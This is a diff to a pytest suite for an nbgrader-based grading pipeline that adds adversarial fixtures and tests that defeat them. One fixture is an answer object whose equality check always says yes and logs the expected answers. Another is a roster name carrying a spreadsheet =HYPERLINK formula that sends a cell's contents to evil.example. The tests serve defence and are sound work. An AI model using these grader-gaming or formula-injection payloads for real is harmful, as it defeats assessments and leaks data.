@@ -99,6 +99,16 @@ ALWAYS_EQUAL = {
 }
 
 
+# trent's answers spy: each == records what it is compared with and says yes (issue 31.2).
+SPY = {
+    "p_bust": "SEEN = []\n\n\nclass Spy(Fraction):\n    def __eq__(self, other):\n"
+              "        SEEN.append(other)\n        return True\n\n"
+              "    __hash__ = Fraction.__hash__\n\n\np_bust = Spy(1, 2)",
+    "next_card": "def next_card(hand, seen, packs):\n"
+                 "    return {'bust': Spy(94, 102), 21: Spy(8, 102)}",
+}
+
+
 # erin lets the package answer everything, her own function too (issue 31.1): it calls the
 # engine under another name, so that only what it runs, not what it is called, can give it away.
 ENGINE_ONLY = {
@@ -173,11 +183,13 @@ def course(tmp_path_factory: pytest.TempPathFactory) -> Path:
     moved = nbformat.reads(nbformat.writes(released), as_version=4)
     answer_cells(moved, right_answers(alice) | {  # oscar moves into alice's folder first
         "STUDENT": 'import os\n\nos.chdir("../../alice/lessons04_05")\nSTUDENT = ""'})
+    spy = nbformat.reads(nbformat.writes(released), as_version=4)
+    answer_cells(spy, dict(SPY))
     engine_only = nbformat.reads(nbformat.writes(released), as_version=4)
     answer_cells(engine_only, dict(ENGINE_ONLY))
     zip_of_submissions(course, {"alice": right, "bob": partly, "carol": released,
                                 "dave": tampered, "mallory": cheat, "oscar": moved,
-                                "erin": engine_only})
+                                "erin": engine_only, "trent": spy})
     nbgrader(course, "zip_collect", LMS)
 
     for source in sources():
@@ -218,6 +230,11 @@ def test_a_function_that_calls_the_engine_scores_what_a_blank_scores(course: Pat
     assert {task: erin[task] for task in CODE_POINTS} == dict(
         {task: alice[task] for task in CODE_POINTS}, test_next_card=0)
     assert sum(erin[task] or 0 for task in CODE_POINTS) == 5
+
+
+def test_answers_that_spy_on_what_they_are_compared_with_score_what_a_blank_scores(
+        course: Path) -> None:
+    assert scores(course, LMS, "trent") == scores(course, LMS, "carol")
 
 
 def test_objects_that_equal_anything_score_what_a_blank_scores(course: Path) -> None:
@@ -346,6 +363,7 @@ alice,Alice,Martin,alice@school.example
 bob,Boris,Иванов,boris@school.example
 carol,Carol,Nguyen,carol@school.example
 dave,Dave,O'Brien,dave@school.example
+mallory,"=HYPERLINK(""http://evil.example/?""&C3,""Open"")",@SUM(1+1),mallory@school.example
 """
 
 
@@ -488,3 +506,12 @@ def test_the_russian_folder_copied_alone_refuses_to_run_rather_than_leak(tmp_pat
     assert done.returncode != 0
     assert "copy the whole teacher/ folder" in done.stdout + done.stderr
     assert not (alone / "release").exists()
+
+
+def test_a_roster_name_that_is_a_formula_is_written_as_text(exported) -> None:
+    """Mallory's roster name would run as a spreadsheet formula: both real exports neutralise it."""
+    for name, (_header, *rows) in exported.items():
+        cells = [cell for row in rows for cell in row]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], name
+        assert any("HYPERLINK(" in cell for cell in cells), f"{name}: mallory is listed"
+
